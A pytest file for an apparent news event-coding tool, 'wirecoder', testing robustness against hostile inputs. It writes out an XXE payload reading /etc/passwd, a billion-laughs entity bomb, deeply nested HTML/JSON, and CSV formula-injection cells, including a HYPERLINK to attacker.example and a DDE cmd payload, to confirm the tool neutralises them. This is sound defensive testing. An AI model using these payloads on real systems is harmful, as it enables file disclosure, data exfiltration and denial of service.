"""Hostile and unlucky inputs: each ends in a coded article, a reject with its reason, or one line on
stderr with exit 2 — never a traceback, never a hang (every test runs under pytest-timeout)."""

from __future__ import annotations

import pytest

from wirecoder import Article

pytestmark = pytest.mark.slow

# A run-on report with commas and conjunctions but no full stop, composed for these tests.
RUN_ON = (
    "militia fighters shelled two villages near the river crossing, police detained 14 men at a roadside "
    "checkpoint and the governor said that 3 guards were wounded while aid workers counted dozens of "
    "damaged homes; "
)


def run_on(words: int) -> str:
    """``words`` words of run-on text without a single full stop."""
    vocab = RUN_ON.split()
    return " ".join(vocab[i % len(vocab)] for i in range(words))


@pytest.mark.timeout(120)
def test_hostile_long_sentence_is_cut_at_clause_boundaries(short):
    """No parsed sentence is longer than the cap, and the cuts fall after punctuation or before a clause."""
    from wirecoder.settings import MAX_SENTENCE_TOKENS

    nlp = next(s for s in short.stages if s.name == "nlp")
    doc = nlp.nlp(run_on(3000))
    sents = list(doc.sents)
    assert len(sents) >= 3000 // MAX_SENTENCE_TOKENS
    assert max(len(s) for s in sents) <= MAX_SENTENCE_TOKENS
    for s in sents[1:]:
        before, first = doc[s.start - 1], doc[s.start]
        assert before.text in {",", ";"} or first.tag_ in {"CC", "WDT", "WRB", "WP"}, (before.text, first.text)


@pytest.mark.timeout(180)
def test_hostile_no_full_stop_text_is_coded(short):
    """10,000 words without a full stop are coded (events found all along), not stuck in one sentence."""
    article = short(Article(raw=run_on(10_000), source="run-on.txt"))
    assert len(article.sentences) >= 10_000 // 150
    assert article.events
    assert article.events[-1].sentence_index > len(article.sentences) // 2


def test_hostile_normal_sentences_are_not_cut(short):
    """Ordinary sentences keep their boundaries: the cap only touches runs longer than it."""
    text = (
        "Troops fired on a crowd in the northern market town on Sunday, and at least 9 people were hurt, "
        "officials said. Protesters then blocked the main road."
    )
    article = short(Article(raw=text, source="two.txt"))
    assert len(article.sentences) == 2


@pytest.mark.timeout(60)
def test_hostile_article_over_cpu_budget_is_a_timeout_reject(settings):
    """Past the CPU budget an article raises ``Timeout`` (reason "timeout") and the next one is coded."""
    from dataclasses import replace

    from wirecoder.errors import Timeout
    from wirecoder.pipeline import Pipeline

    pipe = Pipeline(replace(settings, cpu_budget=0.3, check_language=False, min_words=1))
    with pytest.raises(Timeout) as info:
        pipe(Article(raw=run_on(20_000), source="slow.txt"))
    assert info.value.reason == "timeout"
    assert "slow.txt" in str(info.value) and "WIRECODER_CPU_BUDGET" in str(info.value)
    coded = pipe(Article(raw="Soldiers detained 6 smugglers at the border post on Friday.", source="ok.txt"))
    assert coded.events


def test_hostile_text_over_parser_limit_is_too_large(settings):
    """A text longer than ``Settings.max_chars`` is a ``too-large`` reject before spaCy sees it."""
    from dataclasses import replace

    from wirecoder.errors import TooLarge
    from wirecoder.pipeline import Pipeline

    pipe = Pipeline(replace(settings, max_chars=2_000, check_language=False))
    with pytest.raises(TooLarge) as info:
        pipe(Article(raw=run_on(1_000), source="big.txt"))
    assert "2,000" in str(info.value) and "big.txt" in str(info.value)


# ---------------------------------------------------------------------------------------------------
# The command line on a corpus of bad inputs

REPORT = "Gunmen ambushed a police patrol on the coastal highway on Thursday, killing 3 officers, a spokesman said.\n"


def hostile_files(where) -> dict[str, bytes]:
    """Bad inputs, written to ``where``: name -> bytes."""
    import gzip

    nested = "<html><body>" + "<div>" * 50_000 + "<p>Text.</p>" + "</div>" * 50_000 + "</body></html>"
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;" * 10}">' for i in range(9))
        + ']><rss version="2.0"><channel><title>t</title><item><title>x</title>'
        "<description>&lol8;</description></item></channel></rss>"
    )
    xxe = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<rss version="2.0"><channel><title>t</title><item><title>x</title>'
        "<description>&xxe;</description></item></channel></rss>"
    )
    files = {
        "empty.txt": b"",
        "spaces.txt": b" \n\t\n  ",
        "binary.txt": bytes(range(256)) * 8,
        "invalid-utf8.txt": b"Police said \xff\xfe\xfa the crowd \xc3\x28 dispersed." * 10,
        "utf16.txt": REPORT.encode("utf-16"),
        "nested.html": nested.encode(),
        "laughs.rss": laughs.encode(),
        "xxe.rss": xxe.encode(),
        "garbage.warc": b"WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99\r\n\r\n\x1b[31m\x00\x07"
        + bytes(range(40)),
        "random.warc.gz": gzip.compress(bytes((i * 7919) % 256 for i in range(4000)))[:500],
        "numbers.jsonl": b'{"id": "n1", "text": "' + REPORT.strip().encode() + b'", "published": 20230101}\n',
        "deep.json": b"[" * 100_000 + b"]" * 100_000,
    }
    for name, data in files.items():
        (where / name).write_bytes(data)
    return files


def run_cli(*args: str, cwd, env: dict[str, str] | None = None):
    import os
    import subprocess
    import sys

    full_env = {**os.environ, "COLUMNS": "200", **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "wirecoder", *args], capture_output=True, cwd=cwd, env=full_env, timeout=600
    )


@pytest.mark.timeout(600)
def test_hostile_corpus_is_one_line_each_and_the_good_file_is_coded(tmp_path):
    files = hostile_files(tmp_path)
    (tmp_path / "good.txt").write_text(REPORT, encoding="utf-8")
    proc = run_cli("code", *files, "good.txt", "--format", "jsonl", cwd=tmp_path)
    err = proc.stderr.decode("utf-8", "replace")
    assert proc.returncode == 0, err
    assert "Traceback" not in err and "\x1b" not in err and "\x07" not in err
    assert "root:" not in proc.stdout.decode("utf-8", "replace")  # no external entity was read
    coded = [line for line in proc.stdout.decode().splitlines() if line.strip()]
    assert any('"good.txt"' in line for line in coded)
    for name in files:
        said = [line for line in err.splitlines() if name in line]
        was_coded = any(f'"{name}' in line for line in coded)
        assert was_coded or len(said) >= 1, (name, err)
        assert len(said) <= 1 or name == "laughs.rss", (name, said)


@pytest.mark.timeout(300)
def test_hostile_every_input_rejected_is_exit_2(tmp_path):
    for name, data in {"a.txt": b"", "b.bin": b"\x00\x01\x02" * 50}.items():
        (tmp_path / name).write_bytes(data)
    proc = run_cli("code", "a.txt", "b.bin", cwd=tmp_path)
    err = proc.stderr.decode()
    assert proc.returncode == 2, err
    assert "Traceback" not in err
    assert [line.split(":")[1].strip() for line in err.splitlines() if line.startswith("wirecoder:")] == [
        "a.txt",
        "b.bin",
    ]


@pytest.mark.timeout(300)
def test_hostile_text_over_the_parser_limit_is_one_line(tmp_path):
    (tmp_path / "long.txt").write_text(run_on(3_000), encoding="utf-8")
    proc = run_cli("code", "long.txt", cwd=tmp_path, env={"WIRECODER_MAX_CHARS": "5000"})
    err = proc.stderr.decode()
    assert proc.returncode == 2, err
    assert "Traceback" not in err and "E088" not in err
    [line] = [line for line in err.splitlines() if line.startswith("wirecoder:")]
    assert "long.txt" in line and "5,000" in line


@pytest.mark.timeout(300)
@pytest.mark.parametrize("value", ["2999-01-01", "1850-06-01", "last tuesday-ish"])
def test_hostile_bad_published_option_is_exit_2(tmp_path, value):
    (tmp_path / "r.txt").write_text(REPORT, encoding="utf-8")
    proc = run_cli("code", "r.txt", "--published", value, cwd=tmp_path)
    err = proc.stderr.decode()
    assert proc.returncode == 2 and "Traceback" not in err, err
    assert len(err.strip().splitlines()) == 1 and "--published" in err


def test_hostile_published_out_of_range_in_input_is_warned_and_dropped(settings):
    from dataclasses import replace

    from wirecoder.clean import clean_article

    for value in ("2999-05-01", "1812-06-18"):
        article = clean_article(Article(raw=REPORT, source="r", published=value), replace(settings, min_words=1))
        assert article.published is None
        assert any(value in w for w in article.warnings)


def test_hostile_published_as_json_number_is_a_bad_record():
    from wirecoder.errors import BadRecord
    from wirecoder.ingest import record_to_article

    with pytest.raises(BadRecord, match="published"):
        record_to_article({"text": REPORT, "published": 20230101}, "x.jsonl:1")


# ---------------------------------------------------------------------------------------------------
# Exports: no cell a spreadsheet would run


def test_hostile_csv_cells_are_neutralised(tmp_path, monkeypatch):
    """Every CSV/TSV layout writes formula-like text with a leading ' (and verbatim with the opt-out)."""
    import csv
    import io

    from wirecoder.export import FORMATS, export
    from wirecoder.export.csvsafe import FORMULA_START, safe_cell
    from wirecoder.store import Store

    assert safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)" and safe_cell(" @x") == "' @x"
    assert safe_cell("\tx") == "'\tx" and safe_cell(-3.5) == -3.5 and safe_cell("Kabul") == "Kabul"

    from web_server import hostile_article

    article = hostile_article()
    for event in article.events:
        event.evidence["sentence"] = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
        if event.source is not None:
            event.source.text = "+cmd|' /C calc'!A0"
        if event.target is not None:
            event.target.name = "@SUM(1+1)"
    article.title = "-2+3"
    store = Store(tmp_path / "w.db")
    store.save(article)
    for fmt in FORMATS:
        if fmt in ("jsonl", "parquet"):
            continue
        out = io.StringIO()
        export(store, fmt, out)
        delimiter = "," if fmt in ("csv", "acled") else "\t"
        rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=delimiter))
        cells = [c for row in rows for c in row]
        assert cells, fmt
        bad = [c for c in cells if c[:1] in ("\t", "\r") or c.lstrip().startswith(FORMULA_START)]
        # negative numbers (coordinates, Goldstein scores) are numbers, not text
        bad = [c for c in bad if not _is_number(c)]
        assert not bad, (fmt, bad)
    monkeypatch.setenv("WIRECODER_CSV_RAW", "1")
    out = io.StringIO()
    export(store, "csv", out)
    assert "=HYPERLINK(" in out.getvalue() and "'=HYPERLINK(" not in out.getvalue()


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
